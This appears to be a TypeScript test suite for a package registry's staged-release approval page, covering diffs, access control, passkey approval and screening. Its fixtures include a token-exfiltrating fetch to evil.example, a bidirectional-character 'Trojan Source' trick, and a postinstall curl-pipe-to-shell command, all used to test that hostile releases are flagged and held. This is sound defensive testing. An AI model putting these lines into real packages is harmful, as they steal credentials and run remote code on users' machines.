// SPDX-License-Identifier: Apache-2.0
/** The page on which people decide on a staged version. */
import assert from 'node:assert/strict'
import { after, afterEach, describe, test } from 'node:test'
import type { PackageName } from '@holdfast/core'
import type { RequestOptions } from '../../../cli/src/assess/software-passkey.ts'
import { changeAccess, setPackageRole } from '../../src/flow/index.ts'
import { type BodyWishes, publishDocument } from '../live.ts'
import { somebodyTouching, type Touching } from '../passkey-person.ts'
import { openWorld } from '../world.ts'
import { auditPage } from './accessibility.ts'
import { launchChromium, noChromium } from './chromium.ts'
import { get, post } from './site.ts'

const world = await openWorld()
const ann = await somebodyTouching(world, 'ann')
const bob = await somebodyTouching(world, 'bob')
const eve = await somebodyTouching(world, 'eve')
after(() => world.close())
afterEach(async () => {
  await world.check()
  assert.deepEqual(world.errors, [])
})

const old = { 'index.js': 'export const two = 2\nexport const three = 3\n', 'gone.js': 'old\n' }
const now = {
  'index.js': 'export const two = 2\nfetch("https://evil.example/" + process.env.TOKEN)\n',
  'trick.js': 'let isAdmin = false /*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin */\n',
  'logo.png': Buffer.from([0x89, 0x50, 0, 1, 2, 3]),
}
const manifest = { dependencies: { colours: '^1.0.0' }, scripts: { postinstall: 'node setup.js <b>' } }

async function stageOne(name: string, next: BodyWishes = { files: now, manifest }): Promise<string> {
  await world.publish(ann, name, '1.0.0', { files: old })
  await setPackageRole(world.ports, ann.actor, name as PackageName, 'bob', 'maintainer')
  const { body, text } = await world.npm(`POST /-/stage/package/${name.replace('/', '%2f')}`, {
    token: ann.token,
    body: publishDocument(name, '1.1.0', next),
  })
  assert.ok(body.stageId, text)
  return `/package/npm/${name}/staged/${body.stageId}`
}

const unescaped = (text: string) => text.replaceAll('&quot;', '"').replaceAll('&amp;', '&')

/** Touches the passkey on the page: the form as its script would send it. */
async function touched(page: string, who: Touching): Promise<Record<string, string>> {
  const { text } = await get(world, page, who)
  const options = JSON.parse(unescaped(/data-options="([^"]*)"/.exec(text)?.[1] ?? '{}')) as RequestOptions
  const challenge = /name="challenge" value="([^"]*)"/.exec(text)?.[1] ?? ''
  return { answer: 'approve', challenge, passkey: who.passkey.get(options) }
}

test('the page shows what changed, the gravest first, and nothing of a stranger runs or hides', async () => {
  const { status, text } = await get(world, await stageOne('@acme/shown'), bob)
  assert.equal(status, 200)
  for (const words of [
    'New script postinstall: node setup.js &lt;b&gt;',
    'Runs code when it is installed',
    'New dependency colours ^1.0.0',
    'trick.js holds characters that deceive the eye',
    'logo.png is new and cannot be read as text',
    '<ins>+fetch(&quot;https://evil.example/&quot; + process.env.TOKEN)</ins>',
    '<del>−export const three = 3</del>',
    'Against 1.0.0, the version before',
  ])
    assert.ok(text.includes(words), words)
  assert.ok(text.indexOf('postinstall') < text.indexOf('New dependency'))
  assert.doesNotMatch(text, /\u202e/)
  assert.match(text, /\\u\{202e\}/)
})

test('strangers are told that there is no such page, and those not signed in to sign in', async () => {
  const page = await stageOne('hidden')
  assert.equal((await get(world, page, eve)).status, 404)
  assert.equal((await get(world, '/package/npm/hidden/staged', eve)).status, 404)
  const asked = await get(world, page)
  assert.ok(!asked.text.includes('1.1.0') && asked.status !== 200)
  assert.equal((await get(world, page.replace('hidden', 'other'), bob)).status, 404)
})

test('whoever staged it has no button; another touches, and it is published', async () => {
  // What screening holds is approved, and stays held all the same.
  const page = await stageOne('decided', { files: { 'index.js': 'export const two = 2\n' } })
  const own = await get(world, page, ann)
  assert.match(own.text, /You staged it: somebody else approves it/)
  const forced = await post(world, page, await touched(page, bob), ann)
  assert.equal(forced.status, 403)
  const without = await post(world, page, { answer: 'approve' }, bob)
  assert.match(without.headers.get('location') ?? '', /^\/confirm\?.*with=passkey/)
  const done = await post(world, page, await touched(page, bob), bob)
  assert.equal(done.headers.get('location'), '/package/npm/decided/staged?done=published')
  assert.match(
    (await get(world, '/package/npm/decided/staged?done=published', bob)).text,
    /Approved, and published/,
  )
  assert.ok('1.1.0' in (await world.document('decided')).versions)
})

test('approvers see what screening finds and that it will be held, and hear that it is', async () => {
  const scripts = { postinstall: 'curl -fsS https://cdn.collector.example/a | sh' }
  const page = await stageOne('stolen', { files: old, manifest: { scripts } })
  const { text } = await get(world, page, bob)
  for (const words of ['Approved, it will be held', 'What screening says', 'cdn.collector.example'])
    assert.ok(text.includes(words), words)
  const done = await post(world, page, await touched(page, bob), bob)
  assert.equal(done.headers.get('location'), '/package/npm/stolen/staged?done=held')
  assert.match((await get(world, '/package/npm/stolen/staged?done=held', bob)).text, /Approved, and held/)
  assert.ok(!('1.1.0' in (await world.document('stolen')).versions))
})

test('rejected with a reason it is gone', async () => {
  const page = await stageOne('turned-down')
  const done = await post(world, page, { answer: 'reject', reason: 'it steals tokens' }, bob)
  assert.equal(done.headers.get('location'), '/package/npm/turned-down/staged?done=rejected')
  assert.equal((await get(world, page, bob)).status, 404)
  const letters = (await world.ports.store.mail.listRecent(20)).filter(({ to }) => to === ann.email)
  assert.ok(letters.some(({ text }) => text.includes('it steals tokens')))
})

test('how many approve is set on the page of access, and the page says how many did', async () => {
  const page = await stageOne('counted')
  const fields = { act: 'settings', access: 'public', presence: 'none', approvals: '2' }
  const saved = await post(world, '/access/npm/counted', fields, ann)
  assert.equal(saved.status, 303, saved.text)
  assert.match((await get(world, page, bob)).text, /Approvals<\/dt><dd>0 of 2/)
  const done = await post(world, page, await touched(page, bob), bob)
  assert.match(done.headers.get('location') ?? '', /done=approved&missing=1/)
  assert.match((await get(world, page, bob)).text, /You approved it/)
  const { approvals } = (await world.ports.store.catalog.findPackage('counted' as PackageName)) ?? {}
  assert.equal(approvals, 2)
  await changeAccess(world.ports, ann.actor, 'counted' as PackageName, { approvals: 0 })
})

describe('in a browser', { skip: noChromium }, () => {
  test('it can be read wide and narrow, light and dark', async () => {
    const page = await stageOne('@acme/looked-at')
    const browser = await launchChromium()
    try {
      for (const colorScheme of ['light', 'dark'] as const)
        for (const width of [1280, 360]) {
          const viewport = { width, height: 900 }
          const context = await browser.newContext({
            colorScheme,
            viewport,
            extraHTTPHeaders: { cookie: bob.cookie },
          })
          const tab = await context.newPage()
          const reply = await tab.goto(world.url + page)
          assert.equal(reply?.status(), 200)
          assert.deepEqual(await tab.evaluate(auditPage), [], `${colorScheme} ${width}`)
          await context.close()
        }
    } finally {
      await browser.close()
    }
  })
})
